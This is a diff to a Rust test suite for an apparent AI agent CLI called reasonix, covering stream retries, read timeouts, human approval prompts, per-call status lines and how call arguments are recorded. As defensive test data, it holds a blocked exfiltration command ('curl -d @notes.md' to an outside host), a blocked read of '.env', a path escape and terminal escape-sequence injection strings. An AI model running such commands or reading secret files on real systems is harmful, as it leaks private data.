@@ -222,19 +222,15 @@ fn reasonix_yaml_configures_the_run_and_the_model_cannot_rewrite_it() {
     );
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn a_provider_cut_mid_stream_exits_4_and_is_recorded() {
-    let mut pieces = vec![mock::text("Let me write")];
-    pieces.push(mock::fragment(
-        0,
-        Some("c1"),
-        Some("write_file"),
-        r#"{"path": "half.txt", "content": "#,
-    ));
-    let server = Mock::start(vec![Reply::Stream(pieces)]).await;
-    let url = server.url.clone();
-    let (w, code, stdout, stderr) = tokio::task::spawn_blocking(move || {
+/// `reasonix run --provider openai` against the mock at `url`, unattended under an allow-all
+/// policy, with `reasonix.yaml` in the workspace setting a 5 ms first backoff and `extra`
+/// arguments. Returns the world, the exit code, stdout and stderr.
+async fn run_on_mock(url: &str, extra: &[&str]) -> (World, Option<i32>, String, String) {
+    let url = url.to_owned();
+    let extra: Vec<String> = extra.iter().map(|a| a.to_string()).collect();
+    tokio::task::spawn_blocking(move || {
         let w = World::new();
+        w.file("reasonix.yaml", "provider:\n  retry_base_ms: 5\n");
         let allow_all = w.policy("allow.yaml", common::ALLOW_ALL);
         let out = Command::new(env!("CARGO_BIN_EXE_reasonix"))
             .args([
@@ -254,6 +250,7 @@ async fn a_provider_cut_mid_stream_exits_4_and_is_recorded() {
                 "--workspace",
             ])
             .arg(&w.ws)
+            .args(&extra)
             .arg("write half.txt")
             .env("MOCK_KEY", "k")
             .env("HOME", &w.home)
@@ -269,14 +266,69 @@ async fn a_provider_cut_mid_stream_exits_4_and_is_recorded() {
         )
     })
     .await
-    .unwrap();
+    .unwrap()
+}
+
+/// A stream that shows text and begins a write, then is cut.
+fn cut_write() -> Reply {
+    Reply::Stream(vec![
+        mock::text("Let me write"),
+        mock::fragment(
+            0,
+            Some("c1"),
+            Some("write_file"),
+            r#"{"path": "half.txt", "content": "#,
+        ),
+    ])
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_cut_stream_is_asked_for_again_and_the_text_shown_from_it_is_marked_discarded() {
+    let args = r#"{"path": "half.txt", "content": "whole"}"#;
+    let server = Mock::start(vec![
+        cut_write(),
+        mock::proposes(&[("c2", "write_file", args)], 8),
+        mock::says("Done."),
+    ])
+    .await;
+    let (w, code, stdout, stderr) = run_on_mock(&server.url, &[]).await;
+    assert_eq!(code, Some(0), "{stderr}");
+    assert!(stdout.contains("Let me write"), "{stdout}");
+    assert!(
+        stderr.contains("[discarded] attempt 1: the stream was cut before its finish reason")
+            && stderr.contains("The text shown above from it is discarded. Asking again in"),
+        "{stderr}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(w.ws.join("half.txt")).unwrap(),
+        "whole"
+    );
+    let lines = record(&w);
+    let events: Vec<&str> = lines
+        .iter()
+        .map(|l| l["event"].as_str().unwrap_or("call"))
+        .collect();
+    assert_eq!(
+        events,
+        ["run_started", "attempt_failed", "call", "run_ended"]
+    );
+    assert_eq!(lines[1]["fault"], "cut");
+    assert_eq!(lines[1]["discarded_chars"], "Let me write".len());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_provider_cut_on_every_attempt_exits_4_naming_each_attempt() {
+    let server = Mock::start(vec![cut_write(), cut_write(), cut_write()]).await;
+    let (w, code, stdout, stderr) = run_on_mock(&server.url, &["--max-retries", "2"]).await;
     assert_eq!(code, Some(4), "{stderr}");
     assert!(
         stdout.contains("Let me write"),
         "text streamed before the cut: {stdout}"
     );
+    assert_eq!(stderr.matches("[discarded]").count(), 3, "{stderr}");
+    assert!(stderr.contains("No retry left."), "{stderr}");
     assert!(
-        stderr.contains("the provider failed") && stderr.contains("cut"),
+        stderr.contains("the provider failed: gave up after 3 attempts (all 2 retries spent): attempt 1: the stream was cut"),
         "{stderr}"
     );
     assert!(!w.ws.join("half.txt").exists());
@@ -285,8 +337,53 @@ async fn a_provider_cut_mid_stream_exits_4_and_is_recorded() {
         lines.iter().all(|l| l.get("outcome").is_none()),
         "no call recorded"
     );
+    let attempts: Vec<&Value> = lines
+        .iter()
+        .filter(|l| l["event"] == "attempt_failed")
+        .collect();
+    assert_eq!(attempts.len(), 3);
+    assert!(attempts[2]["wait_ms"].is_null());
     assert_eq!(lines.last().unwrap()["event"], "provider_error");
+    assert_eq!(server.bodies().len(), 3);
     assert_eq!(server.bodies()[0]["model"], "m");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn retry_flags_set_the_attempts_and_the_read_timeout() {
+    // --max-retries 0: one attempt only.
+    let server = Mock::start(vec![cut_write(), mock::says("never asked")]).await;
+    let (_, code, _, stderr) = run_on_mock(&server.url, &["--max-retries", "0"]).await;
+    assert_eq!(code, Some(4), "{stderr}");
+    assert!(
+        stderr.contains("gave up after 1 attempt (retries are off)"),
+        "{stderr}"
+    );
+    assert_eq!(server.bodies().len(), 1);
+
+    // --read-timeout-ms: a silent server is a stall, retried.
+    let server = Mock::start(vec![
+        Reply::Silent(std::time::Duration::from_secs(20)),
+        mock::says("Here."),
+    ])
+    .await;
+    let (w, code, _, stderr) = run_on_mock(&server.url, &["--read-timeout-ms", "300"]).await;
+    assert_eq!(code, Some(0), "{stderr}");
+    let stall = record(&w)
+        .into_iter()
+        .find(|l| l["event"] == "attempt_failed")
+        .unwrap();
+    assert_eq!(stall["fault"], "stall", "{stall}");
+    assert!(
+        stall["detail"].as_str().unwrap().contains("300 ms"),
+        "{stall}"
+    );
+
+    let (_, code, _, stderr) = run_on_mock(&server.url, &["--read-timeout-ms", "0"]).await;
+    assert_eq!(code, Some(2), "{stderr}");
+    assert!(
+        stderr.contains("read timeout must be at least 1 ms"),
+        "{stderr}"
+    );
 }
 
 /// On a terminal a person answers: an unknown answer asks again, `o` runs the call once, `d`
@@ -333,6 +430,16 @@ fn on_a_terminal_a_person_answers_each_ask() {
     );
     assert_eq!(std::fs::read_to_string(w.ws.join("yes.txt")).unwrap(), "y");
     assert!(!w.ws.join("no.txt").exists());
+    // The call line says the person declined, not that the host refused.
+    let declined = stderr
+        .lines()
+        .find(|l| l.contains("declined  write_file no.txt"))
+        .unwrap_or_else(|| panic!("{stderr}"));
+    assert!(
+        declined.contains("a person said no; nothing ran"),
+        "{declined}"
+    );
+    assert!(stderr.contains("succeeded write_file yes.txt"), "{stderr}");
     let approvals: Vec<Value> = record(&w)
         .iter()
         .filter(|l| l.get("outcome").is_some())
@@ -393,6 +500,185 @@ fn the_prompt_shows_escape_sequences_instead_of_obeying_them() {
     assert!(stderr.contains(r"\x1b[2K\x1b[1Gecho hello"), "{stderr}");
     assert!(stderr.contains(r"\u{202e}hs.live"), "{stderr}");
     assert!(stdout.contains(r"ok\x1b]0;pwned\x07"), "{stdout}");
+}
+
+// Issue 17, item 7: `run` on stderr and in the record.
+
+#[test]
+fn each_call_line_names_what_it_touched_and_a_failure_says_why() {
+    let w = example_world();
+    let ws = w.ws.to_str().unwrap();
+    let script = format!("script:{}", example("examples/session/session.json"));
+    let policy = example("examples/session/policy.yaml");
+    let (code, _, stderr) = w.run(
+        &[
+            "run",
+            "--provider",
+            &script,
+            "--policy",
+            &policy,
+            "--workspace",
+            ws,
+            "--unattended",
+            "Tidy the notes",
+        ],
+        "",
+    );
+    assert_eq!(code, 0, "{stderr}");
+    let line = |start: &str| {
+        stderr
+            .lines()
+            .find(|l| l.starts_with(start))
+            .unwrap_or_else(|| panic!("no line starting {start:?}: {stderr}"))
+            .to_owned()
+    };
+    line("succeeded read_file notes.md [call_1_0]");
+    line("succeeded bash `ls -la src && grep -n TODO notes.md src/main.rs` [call_1_1]");
+    line(r#"invalid   write_file {"path":"notes/plan.md"} [call_2_0]"#);
+    line("blocked   read_file .env [call_3_0]");
+    line("blocked   write_file ../escaped.txt [call_3_1]");
+    line("blocked   bash `curl -d @notes.md https://example.com` [call_3_2]");
+    let failed = line("failed    bash `cat does-not-exist.txt` [call_4_0]");
+    assert!(
+        failed.ends_with("— exit status 1: cat: does-not-exist.txt: No such file or directory"),
+        "{failed}"
+    );
+    line("succeeded write_file notes/plan.md [call_5_0]");
+    // An invalid call's line gives the error, not the tool's whole schema.
+    assert!(!stderr.contains("additionalProperties"), "{stderr}");
+    // The record says why it failed too.
+    let failure: Vec<Value> = record(&w)
+        .into_iter()
+        .filter(|l| l["outcome"] == "failed")
+        .collect();
+    assert_eq!(
+        failure[0]["failure"],
+        "exit status 1: cat: does-not-exist.txt: No such file or directory"
+    );
+}
+
+/// A script of one turn: a write of `content` to `path`, then a bash command.
+fn one_turn(w: &World, path: &str, content: &str) -> String {
+    let script = w.root.join("s.json");
+    std::fs::write(
+        &script,
+        serde_json::json!([
+            {"tool_calls": [
+                {"name": "write_file", "arguments": {"path": path, "content": content}},
+                {"name": "bash", "arguments": {"command": "echo hi"}}
+            ]}
+        ])
+        .to_string(),
+    )
+    .unwrap();
+    format!("script:{}", script.display())
+}
+
+#[test]
+fn the_record_carries_the_run_id_and_the_arguments_bounded_beside_their_digest() {
+    let w = World::new();
+    let ws = w.ws.to_str().unwrap();
+    let big = "x".repeat(20_000);
+    let provider = one_turn(&w, "big.txt", &big);
+    let allow = w.policy("allow.yaml", common::ALLOW_ALL);
+    for _ in 0..2 {
+        let (code, _, stderr) = w.run(
+            &[
+                "run",
+                "--provider",
+                &provider,
+                "--policy",
+                &allow,
+                "--workspace",
+                ws,
+                "--unattended",
+                "go",
+            ],
+            "",
+        );
+        assert_eq!(code, 0, "{stderr}");
+    }
+    let lines = record(&w);
+    assert!(lines.iter().all(|l| l["run_id"].is_string()), "{lines:?}");
+    let runs: std::collections::BTreeSet<&str> = lines
+        .iter()
+        .map(|l| l["run_id"].as_str().unwrap())
+        .collect();
+    assert_eq!(runs.len(), 2, "two runs, two ids: {runs:?}");
+    let calls: Vec<&Value> = lines
+        .iter()
+        .filter(|l| l.get("call_id").is_some())
+        .collect();
+    assert_eq!(calls.len(), 4);
+    let keys: std::collections::BTreeSet<(String, String)> = calls
+        .iter()
+        .map(|c| {
+            (
+                c["run_id"].as_str().unwrap().to_owned(),
+                c["call_id"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    assert_eq!(keys.len(), 4, "a call is one line of the record: {keys:?}");
+
+    let whole = serde_json::json!({"path": "big.txt", "content": big}).to_string();
+    let write = calls[0];
+    assert_eq!(write["tool"], "write_file");
+    assert_eq!(
+        write["arguments_sha256"],
+        reasonix::record::sha256(whole.as_bytes())
+    );
+    let kept = write["arguments"].as_str().unwrap();
+    assert!(
+        kept.len() < 8300 && kept.ends_with(&format!(" of {} bytes shown]", whole.len())),
+        "bounded, with the true size: {}",
+        &kept[kept.len() - 60..]
+    );
+    assert!(whole.starts_with(kept.split('…').next().unwrap()));
+    let bash = calls[1];
+    assert_eq!(bash["arguments"], r#"{"command":"echo hi"}"#);
+    assert_eq!(
+        bash["arguments_sha256"],
+        reasonix::record::sha256(br#"{"command":"echo hi"}"#)
+    );
+}
+
+#[test]
+fn record_arguments_digest_keeps_the_contents_out_of_the_record() {
+    let w = World::new();
+    let ws = w.ws.to_str().unwrap();
+    let provider = one_turn(&w, "notes.txt", "SECRET-CONTENT-4711");
+    std::fs::write(
+        w.ws.join("reasonix.yaml"),
+        "record:\n  path: .reasonix/record.jsonl\n  arguments: digest\n",
+    )
+    .unwrap();
+    let allow = w.policy("allow.yaml", common::ALLOW_ALL);
+    let (code, _, stderr) = w.run(
+        &[
+            "run",
+            "--provider",
+            &provider,
+            "--policy",
+            &allow,
+            "--workspace",
+            ws,
+            "--unattended",
+            "go",
+        ],
+        "",
+    );
+    assert_eq!(code, 0, "{stderr}");
+    assert!(
+        stderr.contains("succeeded write_file notes.txt"),
+        "{stderr}"
+    );
+    let text = std::fs::read_to_string(w.ws.join(".reasonix/record.jsonl")).unwrap();
+    assert!(!text.contains("SECRET-CONTENT-4711"), "{text}");
+    for call in record(&w).iter().filter(|l| l.get("call_id").is_some()) {
+        assert_eq!(call["arguments"], Value::Null, "{call}");
+        assert!(call["arguments_sha256"].as_str().unwrap().len() == 64);
+    }
 }
 
 #[test]
